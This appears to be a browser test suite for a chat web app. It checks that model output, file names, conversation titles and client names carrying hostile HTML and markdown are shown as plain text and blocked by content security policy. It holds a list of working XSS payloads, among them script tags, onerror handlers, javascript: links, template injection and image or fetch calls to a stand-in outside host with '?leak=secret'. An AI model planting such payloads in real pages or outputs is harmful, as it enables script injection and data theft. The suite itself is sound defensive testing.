// SPDX-License-Identifier: Apache-2.0
import { WebSocket } from "ws";
import { HOME, TOKEN, check, say, until } from "./bench.mjs";
import { choose, rename } from "./sessions.mjs";

const payloads = (there) => [
  `<script>window.ran=1;fetch("${there}/script")</script>`,
  `<img src=x onerror="window.ran=1;fetch('${there}/onerror')">`,
  `<img src="${there}/image.png">`,
  `![pixel](${there}/pixel.png?leak=secret)`,
  `![pixel][ref]\n\n[ref]: ${there}/reference.png`,
  `<svg onload="window.ran=1"><animate onbegin="window.ran=1" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<style>@import "${there}/style.css"; body{background:url(${there}/background)}</style>`,
  `<link rel=stylesheet href="${there}/sheet.css"><base href="${there}/">`,
  `[click](javascript:window.ran=1)`,
  `[click](JaVaScRiPt&colon;window.ran=1)`,
  `[click](data:text/html,<script>opener.ran=1</script>)`,
  `[click](vbscript:ran) <javascript:window.ran=1> [x](\u0001javascript:window.ran=1)`,
  `"><img src=x onerror=window.ran=1>`,
  `\${window.ran=1} {{constructor.constructor('window.ran=1')()}}`,
  "```html\n<script>window.ran=1</script>\n```",
  `<form action="${there}/form"><input name=a><button>go</button></form>`,
  `<meta http-equiv=refresh content="0;url=${there}/refresh">`,
  `<creel-app></creel-app><details open ontoggle=window.ran=1>`,
];

export function hostileCases({ model, stranger, watch, shot }) {
  return [
    ["the checks would notice: the same payloads in a page that trusts them", async () => {
      const staying = payloads(stranger.origin).filter((p) => !p.includes("http-equiv=refresh"));
      stranger.page = `<!doctype html><body><script>document.body.innerHTML = ${JSON.stringify(staying.join("\n")).replaceAll("<", "\\u003c")}</script></body>`;
      const context = await watch.browser.newContext();
      const page = await context.newPage();
      await page.goto(`${stranger.origin}/trap`);
      await page.waitForFunction(() => window.ran === 1);
      check("script ran there", true);
      await page.waitForLoadState("load");
      check("and the stranger was visited", stranger.hits.some((h) => h.startsWith("/image.png")), stranger.hits);
      await context.close();
      stranger.hits.length = 0;
    }],
    ["the checks would notice: what the policy forbids is reported", async () => {
      const page = await watch.signedIn();
      const ran = await page.evaluate(async (there) => {
        const inline = document.createElement("script");
        try {
          inline.text = "window.inline = 1";
          document.body.append(inline);
        } catch {
          // trusted types refuse already
        }
        const blocked = await fetch(there).then(() => false, () => true);
        new Image().src = `${there}/image`;
        return [window.inline, blocked];
      }, stranger.origin);
      check("inline code and foreign requests do not pass", ran[0] === undefined && ran[1] === true, ran);
      for (const directive of ["require-trusted-types-for", "connect-src", "img-src"]) {
        check(`${directive} is reported`, await until(() => watch.violations.some((v) => v.startsWith(directive))), watch.violations);
      }
      check("and nobody was visited", stranger.hits.length === 0, stranger.hits);
      watch.violations.length = 0;
      watch.errors.length = 0;
      watch.elsewhere.length = 0;
      await page.context().close();
    }],
    ["what a model says is never run, loaded or followed", async () => {
      const page = await watch.signedIn();
      const all = payloads(stranger.origin);
      model.scripts.set("be evil", (s) => s.text(all.join("\n\n")));
      await say(page, `be evil ${all[0]}`);
      await page.locator("article.assistant").last().getByText("creel-app").first().waitFor();
      await page.getByText("Writing…").waitFor({ state: "detached" });
      await page.reload();
      const said = page.locator("article.assistant").last();
      await said.getByText("creel-app").first().waitFor();
      await shot(page, "hostile");
      check("no script ran", (await page.evaluate(() => window.ran)) === undefined);
      check("HTML is shown as characters", (await said.textContent()).includes("<script>window.ran=1;fetch("));
      const made = await page.locator(".log").evaluate((log) => [...log.querySelectorAll("img, iframe, script, style, link, form, base, meta, svg")].map((e) => e.outerHTML));
      check("nothing that loads or runs was made of it", made.length === 0, made);
      const links = await said.locator("a").evaluateAll((as) => as.map((a) => [a.protocol, a.rel, a.target, a.referrerPolicy]));
      check("links lead to the web only, without opener", links.length > 0 && links.every(([p, rel, target]) => /^(https?|mailto):$/.test(p) && rel.includes("noopener") && rel.includes("noreferrer") && target === "_blank"), links);
      check("a picture is a link that shows where it leads", (await said.textContent()).includes(`${stranger.origin}/pixel.png?leak=secret`));
      await page.context().close();
    }],
    ["names of conversations, pictures and clients are words", async () => {
      const page = await watch.signedIn();
      const evil = `<img src=x onerror="window.ran=1">`;
      await page.getByRole("button", { name: "New conversation" }).click();
      await page.getByRole("heading", { name: "New conversation" }).waitFor();
      const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
      await page.locator("input[type=file]").setInputFiles({ name: `${evil}.png`, mimeType: "image/png", buffer: png });
      await page.getByRole("list", { name: "Pictures to send" }).getByText(evil).waitFor();
      await say(page, "named badly");
      await page.getByText("You said: named badly").waitFor();
      await page.locator("figcaption").getByText(evil).waitFor();
      await rename(page, "named badly", evil);
      await page.getByRole("heading", { name: evil }).waitFor();
      await choose(page, evil, "Delete");
      await page.getByRole("dialog").getByText(evil).waitFor();
      check("they are shown as they are", true);
      await shot(page, "hostile-names");
      await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
      const client = new WebSocket(HOME.replace("http", "ws"));
      await new Promise((done) => (client.onmessage = done));
      client.send(JSON.stringify({ type: "req", id: "1", method: "connect", params: { minProtocol: 4, maxProtocol: 4, auth: { token: TOKEN },
        client: { id: "test", version: "1", platform: evil, mode: "test", displayName: evil } } }));
      await page.getByRole("link", { name: "Status" }).click();
      await page.locator(".plainlist").getByText(evil).first().waitFor();
      client.close();
      check("in the list of clients as well", true);
      check("no script ran", (await page.evaluate(() => window.ran)) === undefined);
      await page.context().close();
    }],
  ];
}
